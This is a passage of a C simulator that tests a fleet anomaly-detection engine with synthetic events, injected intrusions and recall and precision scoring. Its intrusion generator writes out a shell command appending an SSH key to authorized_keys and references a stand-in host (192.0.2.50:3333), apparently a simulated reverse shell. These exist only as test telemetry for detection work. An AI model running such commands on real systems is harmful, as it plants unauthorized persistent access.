		       "192.0.2.50", 3333);
		return t + 2200 * MS;
	}
	default: {
		const char *a[] = {
			"sh", "-c",
			"mkdir -p ~/.ssh; echo ssh-ed25519 AAAA... >> ~/.ssh/authorized_keys",
			NULL};
		ev_exec(mi, t, sh, a, exe, 33, 33, 0);
		const char *mk[] = {"mkdir", "-p", "/var/www/.ssh", NULL};
		ev_exec(mi, t + 5 * MS, "/usr/bin/mkdir", mk, sh, 33, 33, 0);
		ev_file(mi, t + 9 * MS, "file.open", sh, exe, 33, "write",
			"/var/www/.ssh/authorized_keys", "*/.ssh/");
		return t + 9 * MS;
	}
	}
}

/* ---- the collector path (as collector/main.c process_batch) ---- */

static struct herd_engine *eng;
static uint64_t next_tick, event_id, n_events, n_tokens, n_skewed, cpu_ns;
static int last_agent = -1;
static uint64_t last_arr;
static struct jtok toks[MAX_TOKS];
static const char *dump_member; /* FLEETSIM_DUMP: a member's tokens on stderr */

static uint64_t thread_cpu(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
	return (uint64_t)ts.tv_sec * NS + (uint64_t)ts.tv_nsec;
}

static void tick_to(uint64_t t)
{
	while (next_tick <= t) {
		herd_tick(eng, next_tick);
		next_tick += TICK_NS;
	}
}

static void deliver(struct pend *p)
{
	tick_to(p->arr);
	int why = 0;
	uint32_t at = 0;
	int n = json_parse_strict(p->json, p->len, toks, MAX_TOKS, &why, &at);
	struct jdoc d = {p->json, toks, n};
	struct ev_info ev;
	char tk[EV_MAX_TOKENS][TOKEN_MAX];
	ev.bad = NULL;
	int nt = n > 0 && toks[0].type == J_OBJ ? ev_extract(&d, 0, &ev, tk) : -1;
	if (nt < 0 || ev.bad) {
		fprintf(stderr, "fleetsim: an event the collector refuses: %.200s\n", p->json);
		exit(2);
	}
	if (p->agent != last_agent || p->arr != last_arr) { /* a new batch */
		herd_seen(eng, ev.host_herd, ev.host, ev.host, ev.host_version, 1, p->arr);
		last_agent = p->agent;
		last_arr = p->arr;
	}
	n_skewed += (uint64_t)herd_time_skewed(eng, ev.ts_ns, p->arr);
	if (nt > 0 && ev.exe_release[0])
		herd_release_at(eng, ev.herd, ev.member, ev.host, tk[0], ev.exe_release, ev.ts_ns,
				p->arr);
	for (int i = 0; i < nt; i++)
		herd_observe_at(eng, ev.herd, ev.member, ev.host, ev.version, tk[i],
				(uint64_t)ev.seq, ++event_id, ev.ts_ns, p->arr);
	n_events++;
	n_tokens += (uint64_t)nt;
	if (dump_member && !strcmp(ev.member, dump_member))
		for (int i = 0; i < nt; i++)
			fprintf(stderr, "# %s ev %.29s arr %llu %s\n", dump_member,
				p->json + p->len - 0 - p->len + 20,
				(unsigned long long)(p->arr / MS), tk[i]);
}

static void on_alert(void *ctx, const char *json, size_t len, const char *kind, const char *sev,
		     const char *herd, const char *member, double score, uint64_t now)
{
	if (alert_out)
		fprintf(alert_out, "%.*s\n", (int)len, json);
	if (strcmp(kind, "member.outlier") && strcmp(kind, "member.folded") &&
	    strcmp(kind, "herd.change") && strcmp(kind, "member.silent"))
		return;
	if (nalerts == alertcap) {
		alertcap = alertcap ? alertcap * 2 : 1024;
		alerts = realloc(alerts, alertcap * sizeof(*alerts));
		if (!alerts)
			abort();
	}
	struct alert *a = &alerts[nalerts++];
	snprintf(a->kind, sizeof(a->kind), "%s", kind);
	snprintf(a->sev, sizeof(a->sev), "%s", sev);
	a->member = strdup(member);
	a->herd = strdup(herd);
	a->at = now;
	a->late = memmem(json, len, "\"late\":true", 11) != NULL;
	a->truth = 0;
}

/* ---- fleet definitions ---- */

static struct herd_def full_fleet[] = {
	{"shop-web", 1, 50, APP_WEB, 40, 1, 2.3, 1},   {"shop-api", 1, 30, APP_JAVA, 0, 2, 3.4, 1},
	{"ingest", 1, 20, APP_NIX, 60, 3, 4.2, 1},     {"worker", 1, 12, APP_PY, 0, 1, 5.1, 1},
	{"search", 1, 8, APP_WEB, 50, 2, 2.8, 1},      {"billing", 1, 5, APP_JAVA, 0, 1, 4.6, 1},
	{"cache", 1, 4, APP_NIX, 0, 0, 0, 1},          {"admin", 1, 3, APP_PY, 0, 1, 3.9, 1},
	{"k8s-node", 0, 24, APP_NODE, 100, 1, 6.2, 1}, {"db", 0, 6, APP_SNAP, 50, 3, 3.2, 1},
	{"bastion", 0, 3, APP_SNAP, 0, 0, 0, 0},       {"edge", 0, 16, APP_WEB, 30, 2, 5.6, 0},
	{"batch", 0, 40, APP_PY, 20, 1, 4.1, 1},       {"telemetry", 0, 10, APP_SNAP, 0, 3, 2.5, 1},
};

static struct herd_def small_fleet[] = {
	{"shop-web", 1, 12, APP_WEB, 40, 1, 1.25, 1}, {"ingest", 1, 6, APP_NIX, 50, 3, 1.4, 1},
	{"admin", 1, 3, APP_PY, 0, 2, 1.6, 1},        {"k8s-node", 0, 6, APP_NODE, 100, 0, 0, 1},
	{"batch", 0, 10, APP_PY, 20, 2, 1.5, 1},      {"edge", 0, 5, APP_WEB, 0, 1, 1.75, 0},
};

static int find_herd(const char *name)
{
	for (int i = 0; i < nherds; i++)
		if (!strcmp(herds[i].name, name))
			return i;
	return -1;
}

/* a random live member of herd h (-1 none); skip member `not` */
static int pick_member(int h, int not )
{
	int c[512], n = 0;
	for (int i = 0; i < nmems && n < 512; i++)
		if (mems[i].herd == h && mems[i].alive && i != not )
			c[n++] = i;
	return n ? c[rndn((unsigned)n)] : -1;
}

static int node_agent(void)
{
	int h = find_herd("k8s-node"), c[128], n = 0;
	for (int i = 0; i < nmems && n < 128; i++)
		if (mems[i].herd == h && mems[i].alive)
			c[n++] = mems[i].agent;
	return c[rndn((unsigned)n)];
}

static int new_host_agent(int h)
{
	char host[64];
	static int seqno[64];
	snprintf(host, sizeof(host), "%s-%d", herds[h].name, ++seqno[h]);
	return add_agent(host, herds[h].name, herds[h].versioned);
}

/* member mi leaves (a container stops) */
static void member_stop(int mi, uint64_t t)
{
	struct mem *m = &mems[mi];
	const struct app *ap = &apps[herds[m->herd].app];
	char exe[256];
	app_exe(m, ap->exe, exe, sizeof(exe));
	ev_exit(mi, t, exe, 0);
	m->alive = 0;
	m->died = t;
	if (!herds[m->herd].containers)
		agents[m->agent].alive = 0;
}

static int member_start(int h, uint64_t t, int rel)
{
	int agent = herds[h].containers ? node_agent() : new_host_agent(h);
	int mi = add_member(h, agent, t, rel);
	app_start(mi, t);
	if (!herds[h].containers)
		aq_push(t + rndn(30) * NS, A_HEARTBEAT, agent, 0);
	return mi;
}

/* a release step: member mi moves to release rel */
static void release_member(int mi, uint64_t t, int rel)
{
	struct mem *m = &mems[mi];
	if (!m->alive || m->rel >= rel)
		return;
	if (herds[m->herd].containers) { /* a new container of the new image replaces it */
		member_stop(mi, t);
		member_start(m->herd, t + 2 * NS, rel);
		return;
	}
	/* in place: the host's version and the service's path change, the service restarts */
	char exe[256];
	app_exe(m, apps[herds[m->herd].app].exe, exe, sizeof(exe));
	ev_exit(mi, t, exe, 15);
	m->rel = rel;
	m->has_new = 1;
	rel_version(herds[m->herd].app, rel, m->relver, sizeof(m->relver));
	if (herds[m->herd].versioned)
		tag_of(m->herd, rel, agents[m->agent].ver, sizeof(agents[m->agent].ver));
	app_start(mi, t + 1 * NS);
}

static void schedule_release(int h, uint64_t t)
{
	static int planned[64];
	int rel = herd_rel[h] + ++planned[h]; /* members joining before it still get the old one */
	int ids[512], n = 0;
	for (int i = 0; i < nmems && n < 512; i++)
		if (mems[i].herd == h && mems[i].alive)
			ids[n++] = i;
	for (int i = n - 1; i > 0; i--) { /* the order members are reached */
		int j = (int)rndn((unsigned)i + 1), x = ids[i];
		ids[i] = ids[j];
		ids[j] = x;
	}
	uint64_t at = t;
	for (int i = 0; i < n; i++) {
		aq_push(at, A_RELEASE, ids[i], rel);
		switch (herds[h].release) {
		case 1:
			at += (30 + rndn(60)) * NS;
			break; /* rolling */
		case 2:
			at += rndn(1500) * MS;
			break; /* all at once */
		default:
			at += (150 + rndn(60)) * NS;
			break; /* slower than the change window */
		}
	}
	waves = realloc(waves, (size_t)(nwaves + 1) * sizeof(*waves));
	if (!waves)
		abort();
	waves[nwaves++] = (struct wave){h, t, at + 30 * NS};
}

static void add_intrusion(int mi, int type, uint64_t t)
{
	if (nintr == intrcap) {
		intrcap = intrcap ? intrcap * 2 : 64;
		intr = realloc(intr, (size_t)intrcap * sizeof(*intr));
		if (!intr)
			abort();
	}
	intr[nintr] = (struct intrusion){.member = mi, .type = type, .t0 = t};
	aq_push(t, A_INTRUDE, nintr, type);
	nintr++;
}

/* a member is intruded once (after that, the response replaces it) */
static int intruded(int mi)
{
	for (int i = 0; i < nintr; i++)
		if (intr[i].member == mi)
			return 1;
	return 0;
}

/* ---- the run ---- */

static void run_action(struct act a)
{
	int mi = a.who;
	struct mem *m = a.type <= A_SIDECAR ? &mems[mi] : NULL;
	if (m && !m->alive)
		return; /* its schedule ends with it */
	switch (a.type) {
	case A_TRAFFIC:
		traffic(mi, a.t);
		aq_push(a.t + rnd_exp(60), A_TRAFFIC, mi, 0);
		break;
	case A_CRON:
		cron(mi, a.t);
		aq_push(a.t + 3600 * NS, A_CRON, mi, 0);
		break;
	case A_CM:
		config_mgmt(mi, a.t);
		aq_push(a.t + 1800 * NS, A_CM, mi, 0);
		break;
	case A_SIDECAR:
		sidecar(mi, a.t);
		aq_push(a.t + rnd_exp(120), A_SIDECAR, mi, 0);
		break;
	case A_HEARTBEAT: {
		struct agent *ag = &agents[mi];
		if (!ag->alive)
			break;
		emit_ev(-1, mi, a.t, "agent.heartbeat", NULL,
			"\"agent\":{\"version\":\"0.9\",\"probes\":{},\"stats\":{\"events\":1,"
			"\"dropped\":{},\"cpu\":0.5,\"rss\":31000000}}");
		aq_push(a.t + 30 * NS, A_HEARTBEAT, mi, 0);
		break;
	}
	case A_OPS: { /* an ops login on a random member of a host herd */
		int h = a.arg, x = pick_member(h, -1);
		if (x >= 0)
			ops_session(x, a.t);
		double per_day = 2 + herds[h].size / 4.0;
		aq_push(a.t + rnd_exp(86400 / per_day), A_OPS, -1, h);
		break;
	}
	case A_CRASH: { /* the app of a random member crashes; systemd or k8s restarts it */
		int h = a.arg, x = pick_member(h, -1);
		if (x >= 0) {
			char exe[256];
			app_exe(&mems[x], apps[herds[h].app].exe, exe, sizeof(exe));
			ev_exit(x, a.t, exe, 11);
			if (herds[h].containers) {
				mems[x].alive = 0;
				mems[x].died = a.t;
				member_start(h, a.t + 5 * NS, mems[x].rel);
			} else {
				app_start(x, a.t + 2 * NS);
			}
		}
		aq_push(a.t + rnd_exp(86400 / 1.5), A_CRASH, -1, h);
		break;
	}
	case A_RELEASE:
		if (herd_rel[mems[mi].herd] < a.arg)
			herd_rel[mems[mi].herd] = a.arg; /* members joining from now on get it */
		release_member(mi, a.t, a.arg);
		break;
	case A_JOIN:
		member_start(a.arg, a.t, herd_rel[a.arg]);
		break;
	case A_LEAVE: {
		int x = pick_member(a.arg, -1);
		if (x >= 0 && herds[a.arg].containers)
			member_stop(x, a.t);
		break;
	}
	case A_INTRUDE: {
		struct intrusion *in = &intr[mi];
		if (!mems[in->member].alive) { /* replaced meanwhile: another member of its herd */
			in->member = pick_member(mems[in->member].herd, -1);
			if (in->member < 0) {
				in->member = -1;
				break;
			}
		}
		struct agent *ag = &agents[mems[in->member].agent];
		in->t_end = intrude(in->member, a.arg, a.t);
		in->spooled = ag->offline_to && a.t >= ag->offline_from && a.t < ag->offline_to;
		in->arr0 = in->spooled ? ag->offline_to : a.t;
		aq_push(in->arr0 + 600 * NS, A_QUARANTINE, in->member, 0);
		break;
	}
	case A_QUARANTINE: /* the response: the intruded member is taken out, a new one replaces it */
		if (mems[mi].alive) {
			member_stop(mi, a.t);
			member_start(mems[mi].herd, a.t + 60 * NS, herd_rel[mems[mi].herd]);
		}
		break;
	}
}

static void usage(void)
{
	fprintf(stderr, "usage: fleetsim [--size small|full] [--seed N] [--days D] [--check] "
			"[--alerts FILE]\n");
}

static int cmp_u64(const void *a, const void *b)
{
	uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;
	return x < y ? -1 : x > y;
}

static int failed;
static void check(const char *name, int ok, const char *fmt, ...)
	__attribute__((format(printf, 3, 4)));
static void check(const char *name, int ok, const char *fmt, ...)
{
	char why[256];
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(why, sizeof(why), fmt, ap);
	va_end(ap);
	if (ok)
		printf("ok - %s\n", name);
	else {
		printf("not ok - %s: %s\n", name, why);
		failed = 1;
	}
}

int main(int argc, char **argv)
{
	const char *size = "small", *alerts_file = NULL;
	uint64_t seed = 18;
	double days = 0;
	int do_check = 0;
	static const struct option opts[] = {{"size", 1, 0, 's'},   {"seed", 1, 0, 'S'},
					     {"days", 1, 0, 'd'},   {"check", 0, 0, 'c'},
					     {"alerts", 1, 0, 'a'}, {0, 0, 0, 0}};
	int o;
	while ((o = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (o) {
		case 's':
			size = optarg;
			break;
		case 'S':
			seed = strtoull(optarg, NULL, 10);
			break;
		case 'd':
			days = atof(optarg);
			break;
		case 'c':
			do_check = 1;
			break;
		case 'a':
			alerts_file = optarg;
			break;
		default:
			usage();
			return 2;
		}
	}
	int full = !strcmp(size, "full");
	if (!full && strcmp(size, "small")) {
		usage();
		return 2;
	}
	if (!days)
		days = full ? 8 : 2.25;
	rng_s = seed;
	dump_member = getenv("FLEETSIM_DUMP");
	char why[300];
	tokens_psl_init(NULL, 0, why, sizeof(why));
	if (alerts_file && !(alert_out = fopen(alerts_file, "w"))) {
		perror(alerts_file);
		return 2;
	}
	herds = full ? full_fleet : small_fleet;
	nherds = full ? (int)(sizeof(full_fleet) / sizeof(full_fleet[0]))
		      : (int)(sizeof(small_fleet) / sizeof(small_fleet[0]));
	herd_rel = calloc((size_t)nherds, sizeof(int));
	herd_cfg_default(&hcfg);
	eng = herd_new(&hcfg, on_alert, NULL);
	t_end = T0 + (uint64_t)(days * 86400 * NS);
	warmup_ns = 86400 * NS; /* what happens daily is learned before scoring */
	next_tick = T0;

	/* nodes first (containers run on them), then the herds; members start within 10 min */
	int order[64], no = 0, nodes = find_herd("k8s-node");
	order[no++] = nodes;
	for (int h = 0; h < nherds; h++)
		if (h != nodes)
			order[no++] = h;
	for (int k = 0; k < no; k++) {
		int h = order[k];
		for (int i = 0; i < herds[h].size; i++) {
			uint64_t t = T0 + rndn(600) * NS + (h == nodes ? 0 : 600 * NS);
			int agent = herds[h].containers ? -1 : new_host_agent(h);
			if (agent < 0) { /* a node that is already up */
				int c[128], n = 0;
				for (int j = 0; j < nmems; j++)
					if (mems[j].herd == nodes)
						c[n++] = mems[j].agent;
				agent = c[rndn((unsigned)n)];
			}
			int mi = add_member(h, agent, t, 0);
			app_start(mi, t);
			if (!herds[h].containers)
				aq_push(t + rndn(30) * NS, A_HEARTBEAT, agent, 0);
		}
		if (herds[h].release)
			schedule_release(h, T0 + (uint64_t)(herds[h].release_day * 86400 * NS));
		if (full && herds[h].release && herds[h].size >= 12) /* a second release */
			schedule_release(
				h, T0 + (uint64_t)((herds[h].release_day + 1.1) * 86400 * NS));
		if (!herds[h].containers && h != nodes)
			aq_push(T0 + rnd_exp(86400 / (2 + herds[h].size / 4.0)), A_OPS, -1, h);
		aq_push(T0 + 3600 * NS + rnd_exp(86400 / 1.5), A_CRASH, -1, h);
		/* members joining and leaving */
		if (herds[h].size >= 5) {
			aq_push(T0 + (uint64_t)(rndf() * (days - 0.2) * 86400 * NS) + 3600 * NS,
				A_JOIN, -1, h);
			if (herds[h].containers)
				aq_push(T0 + (uint64_t)(rndf() * (days - 0.2) * 86400 * NS) +
						3600 * NS,
					A_LEAVE, -1, h);
		}
	}
	/* an agent cut off for an hour (its spool flushed when it is back), with an intruder in
	 * that hour */
	{
		int h = find_herd("batch"), x = pick_member(h, -1);
		struct agent *ag = &agents[mems[x].agent];
		ag->offline_from = T0 + (uint64_t)(days * 0.6 * 86400 * NS);
		ag->offline_to = ag->offline_from + 3600 * NS;
		add_intrusion(x, I_REVSHELL, ag->offline_from + 1800 * NS);
	}
	/* intruder sequences on chosen members, at random times after the warm-up */
	int nint = full ? 60 : 10;
	for (int i = 0; i < nint; i++) {
		int h;
		do
			h = (int)rndn((unsigned)nherds);
		while (herds[h].size < 4 && rndn(3));
		int type = (int)rndn(I_N);
		if (type == I_MODULE && herds[h].containers)
			type = I_REVSHELL;
		uint64_t t = T0 + warmup_ns +
			     (uint64_t)(rndf() * (days * 86400 * NS - warmup_ns - 600 * NS));
		/* the member: one alive then (decided when it happens, see A_INTRUDE) */
		int x = pick_member(h, -1), tries = 0;
		while (x >= 0 && intruded(x) && tries++ < 20)
			x = pick_member(h, -1);
		if (x < 0 || intruded(x))
			continue;
		add_intrusion(x, type, t);
	}

	/* generator, pacer and collector path, in virtual time */
	uint64_t cpu0, wall0 = thread_cpu();
	for (;;) {
		uint64_t ta = naq ? aq[0].t : UINT64_MAX, tb = npq ? pq[0].arr : UINT64_MAX;
		if (ta == UINT64_MAX && tb == UINT64_MAX)
			break;
		if (ta <= tb) {
			struct act a = aq_pop();
			if (a.t < t_end)
				run_action(a);
			continue;
		}
		struct pend p = pq_pop();
		cpu0 = thread_cpu();
		deliver(&p);
		cpu_ns += thread_cpu() - cpu0;
		free(p.json);
	}
	cpu0 = thread_cpu();
	tick_to(t_end + 600 * NS);
	cpu_ns += thread_cpu() - cpu0;
	uint64_t total_cpu = thread_cpu() - wall0;

	/* ---- scoring ---- */
	for (int i = 0; i < nintr; i++) {
		struct intrusion *in = &intr[i];
		if (in->member < 0)
			continue;
		for (size_t k = 0; k < nalerts; k++) {
			struct alert *a = &alerts[k];
			if (strcmp(a->kind, "member.outlier") ||
			    strcmp(a->member, mems[in->member].name))
				continue;
			if (a->at < in->arr0 ||
			    a->at > (in->t_end > in->arr0 ? in->t_end : in->arr0) + 600 * NS)
				continue;
			a->truth = 1;
			if (!in->detected || a->at - in->arr0 < in->latency) {
				in->latency = a->at - in->arr0;
				in->detected = 1;
			}
			in->paged |= !strcmp(a->sev, "alert");
		}
	}
	int seqs = 0, hit5 = 0, hit = 0, paged = 0;
	uint64_t lat[1024];
	int nlat = 0;
	for (int i = 0; i < nintr; i++) {
		struct intrusion *in = &intr[i];
		if (in->member < 0)
			continue;
		seqs++;
		hit += in->detected;
		paged += in->paged;
		if (in->detected && in->latency <= DETECT_NS)
			hit5++;
		if (in->detected && nlat < 1024)
			lat[nlat++] = in->latency;
	}
	qsort(lat, (size_t)nlat, sizeof(lat[0]), cmp_u64);
	int pages = 0, true_pages = 0, notices = 0, release_pages = 0, false_pages = 0, folded = 0,
	    changes = 0, silent = 0, late = 0;
	for (size_t k = 0; k < nalerts; k++) {
		struct alert *a = &alerts[k];
		folded += !strcmp(a->kind, "member.folded");
		changes += !strcmp(a->kind, "herd.change");
		silent += !strcmp(a->kind, "member.silent");
		if (strcmp(a->kind, "member.outlier"))
			continue;
		if (a->at < T0 + warmup_ns && !a->truth)
			continue;
		late += a->late;
		if (strcmp(a->sev, "alert")) {
			notices++;
			continue;
		}
		pages++;
		true_pages += a->truth;
		if (a->truth)
			continue;
		int h = find_herd(a->herd), in_wave = 0;
		for (int w = 0; w < nwaves; w++)
			if (waves[w].herd == h && a->at >= waves[w].t0 &&
			    a->at <= waves[w].t1 + (uint64_t)hcfg.rollout_s * NS)
				in_wave = 1;
		release_pages += in_wave;
		false_pages++;
		if (!do_check || getenv("FLEETSIM_VERBOSE")) {
			char ts[48];
			fmt_ts(ts, sizeof(ts), a->at);
			fprintf(stderr, "# false page %s %s%s\n", ts, a->member,
				in_wave ? " (release)" : "");
		}
	}
	double member_days = 0;
	for (int i = 0; i < nmems; i++) {
		uint64_t b = mems[i].born > T0 + warmup_ns ? mems[i].born : T0 + warmup_ns;
		uint64_t d = mems[i].alive ? t_end : mems[i].died;
		if (d > b)
			member_days += (double)(d - b) / (86400.0 * NS);
	}
	double recall = seqs ? 100.0 * hit5 / seqs : 0;
	double precision = pages ? 100.0 * true_pages / pages : 100;
	double fp_rate = member_days ? 1000.0 * false_pages / member_days : 0;
	double p50 = nlat ? lat[nlat / 2] / 1e9 : 0,
	       p95 = nlat ? lat[(nlat * 95 + 99) / 100 - 1] / 1e9 : 0;
	double eps = cpu_ns ? n_events / (cpu_ns / 1e9) : 0;
	int nwave_h = nwaves;
	printf("# fleetsim --size %s --seed %llu: %d herds, %d members (%.0f member-days scored, "
	       "after %llu h warm-up), %.2f days, %d release waves\n",
	       size, (unsigned long long)seed, nherds, nmems, member_days,
	       (unsigned long long)(warmup_ns / 3600 / NS), days, nwave_h);
	printf("# events %llu (tokens %llu, clock-skewed %llu), herd changes %d, folded %d, "
	       "member.silent %d\n",
	       (unsigned long long)n_events, (unsigned long long)n_tokens,
	       (unsigned long long)n_skewed, changes, folded, silent);
	printf("# recall: %d of %d intruder sequences alerted within 5 s (%.1f%%), %d at all, %d "
	       "paged\n",
	       hit5, seqs, recall, hit, paged);
	printf("# precision: %d of %d pages true (%.1f%%); notices %d; late-marked alerts %d\n",
	       true_pages, pages, precision, notices, late);
	printf("# pages during release waves: %d; false pages: %d = %.2f per 1000 member-days\n",
	       release_pages, false_pages, fp_rate);
	printf("# latency: p50 %.3f s, p95 %.3f s (%d alerted)\n", p50, p95, nlat);
	printf("# collector path CPU: %.2f s for %llu events = %.0f events per CPU-second "
	       "(%.2f us/event); whole run %.2f s CPU\n",
	       cpu_ns / 1e9, (unsigned long long)n_events, eps,
	       cpu_ns / 1e3 / (n_events ? n_events : 1), total_cpu / 1e9);
	for (int i = 0; i < nintr && !do_check; i++) {
		struct intrusion *in = &intr[i];
		if (in->member < 0)
			continue;
		char ts[48];
		fmt_ts(ts, sizeof(ts), in->t0);
		fprintf(stderr, "# intrusion %-15s %s on %s (%s)%s: %s %.3f s\n",
			intr_name[in->type], ts, mems[in->member].name,
			herds[mems[in->member].herd].name, in->spooled ? " spooled" : "",
			in->detected ? "alerted after" : "MISSED", in->latency / 1e9);
	}
	if (do_check) {
		check("fleetsim_recall", recall >= 95,
		      "%.1f%% of intruder sequences within 5 s (< 95%%)", recall);
		check("fleetsim_intruders_paged", seqs && paged * 100 >= 90 * seqs,
		      "%d of %d intruder sequences paged (< 90%%)", paged, seqs);
		/* The targets of issue 18 are for the full size (docs/collector.md "Fleet
		 * simulation"). Checked here: what the engine reaches at this size (seed 18: 100%, no
		 * release page, no false page), with one false page of margin (56 member-days: one
		 * false page is 18 per 1000). */
		check("fleetsim_precision", precision >= 90,
		      "%.1f%% of pages true (< 90%%; the target is 90%%)", precision);
		check("fleetsim_release_pages", release_pages <= 1,
		      "%d pages during release waves (> 1; the target at full size is 0)",
		      release_pages);
		check("fleetsim_false_pages", fp_rate <= 20,
		      "%.2f false pages per 1000 member-days (> 20; the target at full size is 1)",
		      fp_rate);
		check("fleetsim_latency_p95", nlat && p95 <= 2.0, "p95 %.3f s (> 2 s)", p95);
		check("fleetsim_late_marked", late >= 1,
		      "no alert marked late (the spooled intrusion)");
		check("fleetsim_events_valid", n_events > 0 && n_skewed == 0,
		      "%llu events, %llu clock-skewed", (unsigned long long)n_events,
		      (unsigned long long)n_skewed);
	}
	herd_free(eng);
	for (size_t k = 0; k < nalerts; k++) {
		free(alerts[k].member);
		free(alerts[k].herd);
	}
	free(alerts);
	free(mems);
	free(agents);
	free(intr);
	free(waves);
	free(herd_rel);
	free(pq);
	free(aq);
	if (alert_out)
		fclose(alert_out);
	return failed;
}
